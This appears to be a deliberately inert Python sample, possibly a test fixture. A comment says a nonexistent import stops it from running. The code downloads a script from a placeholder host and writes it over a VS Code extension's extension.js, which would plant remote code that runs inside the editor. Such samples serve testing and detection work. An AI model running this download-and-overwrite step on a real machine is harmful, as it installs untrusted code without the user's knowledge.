import inert_sample  # there is no such module: nothing below ever runs
import os
import requests

place = os.path.expanduser("~/.vscode/extensions/theme.example-1.0.0/extension.js")
with open(place, "w") as file:
    file.write(requests.get("https://files.example/e.js").text)
